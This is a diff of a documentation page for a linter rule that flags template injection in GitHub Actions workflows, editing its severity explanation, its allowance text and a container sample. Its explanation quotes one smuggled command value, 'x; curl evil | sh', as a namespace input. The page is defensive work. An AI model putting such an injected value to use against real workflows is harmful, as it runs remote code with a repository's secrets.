@@ -4,8 +4,8 @@ export const templateInjection: RulePage = {
   id: "template-injection",
   why: `\`\${{ … }}\` is pasted into the script before the shell reads it. Who may run a skill chooses its inputs, without any right to the repository: \`x; curl evil | sh\` as a namespace would run with the secrets of the skill. An environment variable is only ever text.
 
-Findings are graded by what the input can hold: a string is an error; a number or boolean a warning, because GitHub does not check them for dispatches by API; a choice a remark, because its options are in the reviewed file. \`github.event.inputs.*\`, branch names, \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. No version of actionlint sees any of this.`,
-  allow: `An error cannot be allowed: there is always a way through \`env\`. Warnings and remarks do not block.`,
+Findings are graded by what the input can hold: a string is an error; a number or boolean a warning, because infraskill checks their type before it dispatches, but the workflow does not; a choice a remark, because its options are in the reviewed file. \`github.event.inputs.*\`, branch names, \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. Of what other actions are given by \`with\`, only code is read: their own handling of it is not followed. actionlint knows titles, bodies and branch names of issues and pull requests, and takes no input for untrusted.`,
+  allow: `An error cannot be allowed. In a script, hand the value over through \`env\`; for an image, the options of a container or a \`shell\`, write a fixed value or make the input a choice. Warnings and remarks do not block.`,
   samples: [
     {
       title: "An input in a script",
@@ -96,7 +96,7 @@ Findings are graded by what the input can hold: a string is an error; a number o
     container: \${{ inputs.namespace }}
 `,
       right: `    name: Execute
-    container: alpine:3.22
+    container: debian:13
 `,
     },
     {
